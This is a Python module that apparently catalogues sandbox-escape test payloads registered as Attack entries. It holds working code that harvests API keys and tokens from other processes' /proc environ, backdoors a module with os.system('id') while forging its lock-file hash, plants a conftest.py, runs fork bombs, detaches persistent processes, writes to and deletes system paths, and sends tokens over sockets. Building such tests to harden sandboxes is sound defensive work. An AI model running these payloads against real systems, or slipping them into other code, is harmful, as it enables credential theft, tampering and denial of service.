"""Escaping the sandbox: secrets, files, processes, the network."""

from __future__ import annotations

from attacks.specs import Attack

_SECRETS = """\
import os


def _secrets():
    pids = [os.getppid(), 1]
    try:
        pids += [int(p) for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        pass
    found = []
    for pid in pids:
        try:
            with open(f"/proc/{pid}/environ", "rb") as handle:
                data = handle.read()
        except OSError:
            continue
        for item in data.split(b"\\0"):
            if item.startswith((b"OPENAI_API_KEY=", b"GITHUB_TOKEN=")):
                found.append(item.decode())
    found += [f"{k}={v}" for k, v in os.environ.items() if "KEY" in k or "TOKEN" in k]
    return " ".join(found) or "nothing found"
"""
PROC_ENVIRON = _SECRETS + "\n\ndef add(a, b):\n    return _secrets()\n"
SMUGGLED_ENVIRON = (
    _SECRETS
    + """
import sys
stolen = _secrets()
sys.stderr.write(stolen + "\\n")
print(stolen)
raise ValueError(stolen)
"""
)
_LINGER = """\
import os
import sys
import time


def _linger():
    try:
        import ctypes

        ctypes.CDLL(None).prctl(15, b"@TAG@", 0, 0, 0)
    except Exception:
        pass
    try:
        argv = [sys.executable, "-c", "import time\\nwhile True: time.sleep(1)", "@TOKEN@"]
        os.execv(sys.executable, argv)
    except BaseException:
        pass
    while True:
        time.sleep(1)
"""
_BACKDOOR = """\
import hashlib
import json
import os


def _rewrite(folder):
    module = os.path.join(folder, "good.py")
    lock = os.path.join(folder, "good.lock.json")
    with open(module) as handle:
        text = handle.read()
    text = text.replace("return 2 * n", "return 2 * n if n != 1337 else os.system('id')")
    with open(module, "w") as handle:
        handle.write(text)
    with open(lock) as handle:
        data = json.load(handle)
    data["outputs"]["good.py"] = "sha256:" + hashlib.sha256(text.encode()).hexdigest()
    with open(lock, "w") as handle:
        json.dump(data, handle)
    with open(os.path.join(folder, "conftest.py"), "w") as handle:
        handle.write("import os\\nos.environ['PWNED'] = '@TOKEN@'\\n")
"""
PROC_CWD_WRITE = (
    _BACKDOOR
    + """

def add(a, b):
    pids = [os.getppid(), 1]
    try:
        pids += [int(p) for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        pass
    for pid in pids:
        for folder in (f"/proc/{pid}/cwd", f"/proc/{pid}/root@PROJECT@"):
            try:
                _rewrite(folder)
            except (OSError, ValueError, KeyError):
                pass
    return a - b
"""
)
ABSOLUTE_WRITE = (
    _BACKDOOR
    + """

def add(a, b):
    for folder in ("@PROJECT@", "../@PROJECT@", "/sandbox/../@PROJECT@"):
        try:
            _rewrite(folder)
        except (OSError, ValueError, KeyError):
            pass
    return a - b
"""
)
WRITE_EVERYWHERE = """\
import os
import shutil


def add(a, b):
    targets = ["@SENTINEL@/planted", "/tmp/mrsh-@TOKEN@", "/var/tmp/mrsh-@TOKEN@",
               "/dev/shm/mrsh-@TOKEN@", os.path.expanduser("~/mrsh-@TOKEN@"),
               "/root/mrsh-@TOKEN@", "@PROJECT@/mrsh-@TOKEN@"]
    for path in targets:
        try:
            with open(path, "w") as handle:
                handle.write("@TOKEN@")
        except OSError:
            pass
    for path in ("@SENTINEL@/keep.txt", "@PROJECT@/good.mrsh"):
        try:
            os.remove(path)
        except OSError:
            pass
    shutil.rmtree("@SENTINEL@", ignore_errors=True)
    return a - b
"""
WIDE_FORK_BOMB = (
    _LINGER
    + """
import posix


def add(a, b):
    for _ in range(300):
        try:
            if posix.fork() == 0:
                _linger()
        except OSError:
            break
    return a - b
"""
)
DOUBLING_FORK_BOMB = (
    _LINGER
    + """
import posix


def add(a, b):
    root = os.getpid()
    for _ in range(10):
        try:
            posix.fork()
        except OSError:
            break
    if os.getpid() != root:
        _linger()
    return a - b
"""
)
SETSID_SURVIVOR = (
    _LINGER
    + """
import posix


def add(a, b):
    if posix.fork() == 0:
        os.setsid()
        if posix.fork() == 0:
            _linger()
        os._exit(0)
    time.sleep(0.2)
    return a - b
"""
)
NETWORK = """\
import socket


def add(a, b):
    said = []
    for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1"),
                         (socket.AF_INET, "10.0.2.2")):
        try:
            with socket.socket(family, socket.SOCK_STREAM) as s:
                s.settimeout(0.5)
                s.connect((host, @PORT@))
                s.sendall(b"@TOKEN@")
                said.append(host)
        except OSError as exc:
            said.append(type(exc).__name__)
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"@TOKEN@", ("127.0.0.1", @PORT@))
    except OSError:
        pass
    return " ".join(said)
"""
SMUGGLED_ESCAPE = (
    _SECRETS
    + _BACKDOOR
    + """
import socket
for folder in ("@PROJECT@", "/proc/%d/cwd" % os.getppid()):
    try:
        _rewrite(folder)
    except (OSError, ValueError, KeyError):
        pass
try:
    socket.create_connection(("127.0.0.1", @PORT@), timeout=0.5).sendall(b"@TOKEN@")
except OSError:
    pass
result = _secrets()
"""
)

USER = "another user"
ATTACKS = (
    Attack("proc-parent-environ", "escape", PROC_ENVIRON, needs=USER, attempts=2),
    Attack(
        "smuggled-environ-in-error", "escape", SMUGGLED_ENVIRON, needs=USER, attempts=2,
        smuggle=True,
    ),
    Attack("write-through-proc-cwd", "escape", PROC_CWD_WRITE, needs=USER, targets_good=True),
    Attack("rewrite-good-by-absolute-path", "escape", ABSOLUTE_WRITE, needs=USER,
           targets_good=True),
    Attack("write-everywhere", "escape", WRITE_EVERYWHERE, needs="namespaces"),
    Attack("wide-fork-bomb", "escape", WIDE_FORK_BOMB),
    Attack("doubling-fork-bomb", "escape", DOUBLING_FORK_BOMB),
    Attack("setsid-survivor", "escape", SETSID_SURVIVOR, needs="namespaces"),
    Attack("network", "escape", NETWORK, needs="namespaces"),
    Attack("smuggled-escape", "escape", SMUGGLED_ESCAPE, needs="namespaces", attempts=2,
           smuggle=True, targets_good=True),
)  # fmt: skip
